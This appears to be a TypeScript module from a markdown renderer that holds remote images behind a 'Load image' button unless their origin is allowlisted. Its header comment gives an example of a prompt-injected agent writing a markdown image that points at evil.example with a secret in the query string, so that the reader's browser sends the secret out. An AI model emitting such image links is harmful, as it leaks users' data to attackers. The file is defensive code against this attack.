import { escapeHtml } from "./code-block.js";
import type { ComponentMount, ImageProps, MarkdownWidget, MountedComponent, WidgetView } from "./tree.js";

/**
 * Remote images are not fetched unless the app allows their origin. An image is a request the
 * reader's browser makes the moment it is drawn, with no click: a prompt-injected agent that
 * writes `![x](https://evil.example/log?secret=…)` sends whatever it read to that server. So an
 * image on another origin is drawn as its alt text and a "Load image" button (the reader decides),
 * unless its origin is in `imageOrigins`. Images on the page's own origin (relative URLs) and URLs
 * that fetch nothing from the network (`data:`, `blob:`, when a URL policy lets them through) are
 * drawn as they are.
 */

/** `https://cdn.example.com`, `https://*.example.com` (any subdomain), or `*` (every remote image). */
const ORIGIN = /^(?:\*|https?:\/\/(?:\*\.)?[a-z0-9.-]+(?::\d{1,5})?)$/;

/** Whether `entry` is an origin pattern `imageOrigins` accepts. */
export function isOriginPattern(entry: unknown): entry is string {
  return typeof entry === "string" && ORIGIN.test(entry);
}

/** The origin of a remote (http or https) image, or undefined when drawing it fetches nothing off the page's origin. */
function remoteOrigin(src: string): URL | undefined {
  let url: URL;
  try {
    // Resolved against a base no real URL has: a relative URL keeps it, `//host/x` and `/\host/x` do not.
    url = new URL(src, "https://page.invalid/");
  } catch {
    return undefined;
  }
  if (url.protocol !== "http:" && url.protocol !== "https:") return undefined;
  return url.host === "page.invalid" ? undefined : url;
}

/** Whether an image at `src` may be drawn at once, given the allowed origin patterns. */
export function imageAllowed(src: string, origins: readonly string[]): boolean {
  const url = remoteOrigin(src);
  if (url === undefined) return true;
  for (const pattern of origins) {
    if (pattern === "*") return true;
    const wildcard = pattern.indexOf("*.");
    if (wildcard < 0) {
      if (url.origin === pattern) return true;
    } else if (url.protocol === pattern.slice(0, wildcard - 2) && url.host.endsWith(pattern.slice(wildcard + 1))) {
      return true;
    }
  }
  return false;
}

export interface BlockedImageProps extends ImageProps {
  /** The host the image would be fetched from. */
  readonly host: string;
}

/** A remote image not drawn yet: its alt text and a button that draws it (the app's image component, if it has one). */
export function blockedImage(props: ImageProps, mount: ComponentMount<ImageProps> | undefined): MarkdownWidget<BlockedImageProps> {
  return {
    kind: "image-blocked",
    props: { ...props, host: remoteOrigin(props.src)?.host ?? "" },
    view: (document, first) => new BlockedImageView(document, first, mount),
    html: blockedImageHtml,
  };
}

const LOAD = "Load image";

class BlockedImageView implements WidgetView<BlockedImageProps> {
  readonly element: HTMLElement;
  readonly #document: Document;
  readonly #mount: ComponentMount<ImageProps> | undefined;
  #props: BlockedImageProps;
  #mounted: MountedComponent<ImageProps> | undefined;
  #loaded = false;

  constructor(document: Document, props: BlockedImageProps, mount: ComponentMount<ImageProps> | undefined) {
    this.#document = document;
    this.#mount = mount;
    this.#props = props;
    this.element = document.createElement("span");
    this.#block();
  }

  update(props: BlockedImageProps): void {
    const same = props.src === this.#props.src;
    this.#props = props;
    if (!same || !this.#loaded) this.#block();
    else if (this.#mounted !== undefined) this.#mounted.update(props);
    else this.#draw();
  }

  destroy(): void {
    this.#mounted?.destroy();
    this.#mounted = undefined;
  }

  #block(): void {
    this.destroy();
    this.#loaded = false;
    const { alt, host } = this.#props;
    this.element.className = "tl-image-blocked";
    const text = this.#document.createElement("span");
    text.className = "tl-image-alt";
    text.textContent = alt;
    const button = this.#document.createElement("button");
    button.type = "button";
    button.className = "tl-image-load";
    button.title = `${LOAD} from ${host}`;
    button.textContent = LOAD;
    button.addEventListener("click", () => this.#load());
    this.element.replaceChildren(text, button);
  }

  #load(): void {
    this.#loaded = true;
    this.element.className = "tl-image-loaded";
    this.element.replaceChildren();
    const { src, alt, title } = this.#props;
    if (this.#mount !== undefined) this.#mounted = this.#mount(this.element, { src, alt, title });
    else this.#draw();
  }

  #draw(): void {
    const image = this.#document.createElement("img");
    image.src = this.#props.src;
    image.alt = this.#props.alt;
    if (this.#props.title !== "") image.title = this.#props.title;
    this.element.replaceChildren(image);
  }
}

function blockedImageHtml(props: BlockedImageProps): string {
  return `<span class="tl-image-blocked"><span class="tl-image-alt">${escapeHtml(props.alt)}</span><button type="button" class="tl-image-load" title="${escapeHtml(`${LOAD} from ${props.host}`)}">${LOAD}</button></span>`;
}
